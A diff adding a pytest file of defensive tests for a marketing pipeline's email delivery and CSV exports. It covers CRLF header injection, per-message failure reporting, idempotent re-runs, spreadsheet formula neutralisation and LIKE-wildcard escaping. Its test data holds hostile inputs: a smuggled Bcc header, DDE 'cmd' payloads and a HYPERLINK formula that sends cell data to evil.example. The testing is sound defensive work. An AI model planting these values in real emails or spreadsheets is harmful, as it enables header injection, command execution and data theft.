@@ -1,0 +1,262 @@
+"""Issue 21, slice (a): attacks on delivery and the activation outputs (docs/reliability.md,
+"Delivery and activation outputs"), on DuckDB and PostgreSQL where they touch the warehouse.
+
+- a CR/LF in data that reaches an email header (an account name in a subject) cannot add a
+  header, and a message that cannot be built or sent fails alone, with its reason, in the build
+  summary and the UI, never stopping other messages or later builds;
+- a re-run at the same as-of, or after a kill, writes the same activation files (the full fault
+  suite is test_faults.py; here a plain re-run on hand-made tables);
+- values a spreadsheet would run are neutralised in the files people open;
+- a `_` in `form_visitors.page_contains` is a character, not a LIKE wildcard.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+import socket
+from datetime import datetime
+
+import dagster as dg
+import pandas as pd
+import pytest
+from aiosmtpd.controller import Controller
+
+from blueprint_pipeline.activation.linkedin import persons_of, write_list
+from blueprint_pipeline.config.activation import ContactList, LinkedIn
+from blueprint_pipeline.csv_safety import cell
+from blueprint_pipeline.defs.journeys.delivery import journey_deliveries
+from blueprint_pipeline.journeys.delivery import MAX_ATTEMPTS, MailboxSender, SmtpSender, deliver
+from blueprint_pipeline.resources import BlueprintConfigResource, DeliveryResource, LandingResource
+from blueprint_pipeline_tests.activation.test_crm import _build as _crm_build
+from blueprint_pipeline_tests.activation.test_crm import _rows as _crm_rows
+from blueprint_pipeline_tests.activation.test_crm import _tables as _crm_tables
+from blueprint_pipeline_tests.activation.test_linkedin import CONFIG as LINKEDIN_CONFIG
+from blueprint_pipeline_tests.activation.test_linkedin import _build as _linkedin_build
+from blueprint_pipeline_tests.journeys.test_delivery import _message, _outbox
+
+INJECTED = "Orion Labs\r\nBcc: a@evil.example"
+
+
+class Envelopes:
+    """An aiosmtpd handler keeping each message's envelope recipients and its raw bytes."""
+
+    def __init__(self):
+        self.received: list[tuple[list[str], bytes]] = []
+
+    async def handle_DATA(self, server, session, envelope):
+        await asyncio.sleep(0)
+        self.received.append((list(envelope.rcpt_tos), envelope.content))
+        return "250 OK"
+
+
+@pytest.fixture
+def smtp_server():
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    handler = Envelopes()
+    controller = Controller(handler, hostname="127.0.0.1", port=port)
+    controller.start()
+    yield handler, f"smtp://127.0.0.1:{port}"
+    controller.stop()
+
+
+def _statuses(warehouse) -> dict[str, tuple]:
+    rows = warehouse.fetchall("select message_id, status, attempts, last_error from journey_outbox")
+    return {m: (s, int(a), e) for m, s, a, e in rows}
+
+
+def test_a_crlf_in_a_subject_cannot_add_a_header(warehouse, smtp_server):
+    """The account name `Orion Labs\\r\\nBcc: a@evil.example` reaches a subject: the message goes
+    to its one recipient, with the name on one line, and no Bcc."""
+    handler, url = smtp_server
+    bad = _message(1) | {"subject": f"News for {INJECTED}"}
+    _outbox(warehouse, [bad, _message(2)])
+    done = deliver(warehouse, SmtpSender(url), None, "marketing@example.com\r\nX-Injected: yes")
+    assert done.sent == {"email": 2} and done.errors == []
+    recipients = sorted(r for rs, _ in handler.received for r in rs)
+    assert recipients == ["p1@example.com", "p2@example.com"], "nobody but the recipients"
+    first = next(c for rs, c in handler.received if rs == ["p1@example.com"])
+    headers = first.split(b"\r\n\r\n", 1)[0].split(b"\r\n")
+    assert b"Subject: News for Orion Labs Bcc: a@evil.example" in headers
+    assert not any(h.lower().startswith((b"bcc:", b"x-injected:")) for h in headers)
+    assert {s for s, *_ in _statuses(warehouse).values()} == {"sent"}
+
+
+def test_a_message_that_cannot_be_built_fails_alone_with_its_reason(warehouse, tmp_path):
+    """A recipient that is two addresses and a body that is NULL: each such message is pending with
+    its error, then failed after MAX_ATTEMPTS runs; the good message is sent in the first run."""
+    two = _message(1) | {"to_address": "p1@example.com, a@evil.example"}
+    empty = _message(2) | {"body_text": None}
+    _outbox(warehouse, [two, empty, _message(3)])
+    mailbox = MailboxSender(tmp_path / "mailbox")
+    first = deliver(warehouse, mailbox, None, "marketing@example.com")
+    assert first.sent == {"email": 1}
+    assert [(m, s) for m, s, _ in first.errors] == [
+        ("<m001@example.com>", "pending"),
+        ("<m002@example.com>", "pending"),
+    ]
+    status = _statuses(warehouse)
+    assert status["<m003@example.com>"][0] == "sent"
+    assert status["<m001@example.com>"][:2] == ("pending", 1)
+    assert "is not one email address" in status["<m001@example.com>"][2]
+    assert "body_text is not text" in status["<m002@example.com>"][2]
+    for _ in range(MAX_ATTEMPTS - 1):
+        last = deliver(warehouse, mailbox, None, "marketing@example.com")
+    assert last.failed == 2 and {s for _, s, _ in last.errors} == {"failed"}
+    assert {m: v[:2] for m, v in _statuses(warehouse).items() if v[0] != "sent"} == {
+        "<m001@example.com>": ("failed", MAX_ATTEMPTS),
+        "<m002@example.com>": ("failed", MAX_ATTEMPTS),
+    }
+    assert sorted(p.name for p in (tmp_path / "mailbox").glob("*.eml")) == ["m003.eml"]
+    assert deliver(warehouse, mailbox, None, "marketing@example.com").errors == [], "failed is final"
+
+
+def test_the_asset_reports_what_was_not_sent_and_the_next_build_goes_on(warehouse, tmp_path):
+    """journey_deliveries succeeds with the bad message named in its metadata (the UI) and in a
+    `summary/` entry (the build summary); the next materialisation succeeds too."""
+    _outbox(warehouse, [_message(1) | {"body_text": None}, _message(2)])
+    resources = {
+        "warehouse": warehouse,
+        "blueprint_config": BlueprintConfigResource(config_dir=str(tmp_path / "config")),
+        "delivery": DeliveryResource(mailbox_dir=str(tmp_path / "mailbox")),
+        "landing": LandingResource(path=str(tmp_path / "landing")),
+    }
+    (tmp_path / "config").mkdir()
+    for attempt in (1, 2):
+        result = dg.materialize([journey_deliveries], resources=resources)
+        assert result.success
+        metadata = result.asset_materializations_for_node("journey_deliveries")[0].metadata
+        summary = metadata["summary/not delivered"].value
+        assert summary.startswith(
+            "1 message(s) not sent (1 retried next run): <m001@example.com>: ValueError"
+        )
+        assert (
+            "<m001@example.com> | pending | ValueError: body_text is not text" in metadata["not_sent"].value
+        )
+        assert metadata["sent"].value == (1 if attempt == 1 else 0)
+    assert _statuses(warehouse)["<m001@example.com>"][:2] == ("pending", 2)
+
+
+def _files(folder) -> dict[str, bytes]:
+    """Every file under `folder` (hidden leftovers included), by relative path."""
+    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def test_a_rerun_at_the_same_as_of_writes_the_same_crm_files(warehouse, tmp_path):
+    """Build at T1, then at T2 with a journey's field update: the delta holds G2, the Account file
+    A1's field. Run again at T2 (the recovery the docs describe): before, account_updates.csv was
+    deleted for good and the delta was header-only. Now every file is byte-identical; a build at T3
+    is against T2 (nothing changed, the field update not written again)."""
+    _crm_build(warehouse, tmp_path, _crm_tables("Engaged", datetime(2026, 3, 1)), "2026-03-02T00:00:00")
+    with warehouse.transaction() as session:
+        session.replace_table(
+            "crm_field_updates",
+            pd.DataFrame({"step_key": ["k1"], "account_id": ["A1"], "field": ["Journey_Stage__c"],
+                          "value": ["=cmd|' /C calc'!A0"], "journey_id": ["j"],
+                          "happened_at": [datetime(2026, 3, 2, 12)]}),
+        )  # fmt: skip
+    moved = _crm_tables("Marketing Qualified", datetime(2026, 3, 2, 6))
+    second = _crm_build(warehouse, tmp_path, moved, "2026-03-03T00:00:00")
+    written = _files(second)
+    assert written["account_updates.csv"] == b"Id,Journey_Stage__c\nA1,=cmd|' /C calc'!A0\n"  # raw: Bulk API
+    assert [r[0] for r in _crm_rows(second / "buying_groups_delta.csv")[1:]] == ["G2"]
+    assert json.loads(written["manifest.json"])["formula_like_values"] == 1
+
+    again = _crm_build(warehouse, tmp_path, moved, "2026-03-03T00:00:00")
+    assert _files(again) == written
+    assert sorted(p.name for p in again.parent.iterdir()) == ["20260302T000000", "20260303T000000"]
+
+    third = _crm_build(warehouse, tmp_path, moved, "2026-03-04T00:00:00")
+    assert len(_crm_rows(third / "buying_groups_delta.csv")) == 1
+    assert not (third / "account_updates.csv").exists()
+
+
+def test_a_rerun_at_the_same_as_of_writes_the_same_linkedin_files(warehouse, tmp_path):
+    """Build 2 of the LinkedIn example (A2 leaves, A4 joins) run twice: before, the second run's
+    adds.csv and removes.csv were header-only; now every file is the same."""
+    (tmp_path / "activation.yaml").write_text(LINKEDIN_CONFIG)
+    _linkedin_build(warehouse, tmp_path, ["A1", "A2", "A3"], "2026-03-01T00:00:00")
+    _linkedin_build(warehouse, tmp_path, ["A1", "A3", "A4"], "2026-03-02T00:00:00")
+    out = tmp_path / "out" / "linkedin"
+    written = _files(out)
+    assert written["targets/20260302T000000/removes.csv"] == b"account_id\nA2\n"
+    _linkedin_build(warehouse, tmp_path, ["A1", "A3", "A4"], "2026-03-02T00:00:00")
+    assert _files(out) == written
+    as_handed_out = warehouse.fetchall(
+        "select activated_at, key from activation_members where list_name = 'targets' order by 1, 2"
+    )
+    assert [k for _, k in as_handed_out] == ["A1", "A2", "A3", "A1", "A3", "A4"], "T1 kept: T2's baseline"
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Mary")'
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (HYPERLINK, '"\'=HYPERLINK(""http://evil.example/?d=""&A2,""Mary"")"'),
+        ("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""),
+        ("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""),
+        ("-2+3", '"\'-2+3"'),
+        ("@SUM(A1)", '"\'@SUM(A1)"'),
+        ("\tTAB", '"\'\tTAB"'),
+        ("\rCR", '"\'\rCR"'),
+        ("-5", "-5"),  # a number is data: a spreadsheet reads it as the number it is
+        (-5.5, "-5.5"),
+        ("+49", "+49"),
+        ("Mary, Jane", '"Mary, Jane"'),
+        ("Mary", "Mary"),
+        (None, ""),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_neutralised(value, written):
+    assert cell(value) == written
+    raw = cell(value, neutralise=False)  # for machines (the Bulk API files): read back as it was
+    assert next(csv.reader(io.StringIO(raw + ",x"))) == ["" if value is None else str(value), "x"]
+
+
+def test_formulas_are_neutralised_in_the_linkedin_and_marketo_files(tmp_path):
+    """A CRM first name `=HYPERLINK(...)` reached the LinkedIn files verbatim: now quoted text."""
+    frame = pd.DataFrame(
+        {"key": ["p1", "p2"], "email": ["a@x.com", "b@x.com"], "firstname": [HYPERLINK, "Line\nbreak"],
+         "lastname": "-Smith", "jobtitle": "CIO", "employeecompany": "@corp", "country": "DE", "googleaid": ""}
+    )  # fmt: skip
+    settings = LinkedIn(max_records_per_file=1)
+    write_list(tmp_path, "contact", "people", frame, set(), settings, {}, "20260302T000000")
+    out = tmp_path / "people" / "20260302T000000"
+    first = (out / "full-0001.csv").read_text()
+    assert first.splitlines()[1] == (
+        """a@x.com,"'=HYPERLINK(""http://evil.example/?d=""&A2,""Mary"")","'-Smith",CIO,"'@corp",DE,"""
+    )
+    with (out / "full-0002.csv").open(newline="") as handle:  # split between rows, not inside one
+        assert list(csv.reader(handle))[1][1] == "Line\nbreak"
+    assert HYPERLINK not in (out / "adds.csv").read_text().replace("'=", "")
+    marketo = frame.rename(columns={"firstname": "firstName", "lastname": "lastName", "jobtitle": "title",
+                                    "employeecompany": "company"})  # fmt: skip
+    write_list(tmp_path, "marketo", "static", marketo, set(), settings, {}, "20260302T000000")
+    assert "\"'=HYPERLINK(" in (tmp_path / "static" / "20260302T000000" / "full-0001.csv").read_text()
+
+
+def test_an_underscore_in_page_contains_is_a_character(warehouse):
+    """`form_visitors.page_contains: "_"` matched every page (a LIKE wildcard): now only the page
+    whose address holds an underscore."""
+    at = datetime(2026, 3, 2)
+    pages = ["https://x.com/contact_form", "https://x.com/pricing", "https://x.com/blog"]
+    with warehouse.transaction() as session:
+        session.replace_table(
+            "int_person_activities",
+            pd.DataFrame({"person_id": ["p1", "p2", "p3"], "activity_id": ["a1", "a2", "a3"], "kind": "page_view",
+                          "activity_at": [datetime(2026, 3, 1)] * 3}),
+        )  # fmt: skip
+        session.replace_table(
+            "stg_marketo__activities",
+            pd.DataFrame({"activity_id": ["a1", "a2", "a3"], "primary_attribute_value": pages}),
+        )
+    for page, expected in (("_", ["p1"]), ("%", []), ("PRICING", ["p2"])):
+        definition = ContactList(form_visitors={"page_contains": page, "within_days": 30})
+        sql, params = persons_of(definition, pd.Timestamp(at))
+        assert sorted(p for (p,) in warehouse.fetchall(sql, params)) == expected, page
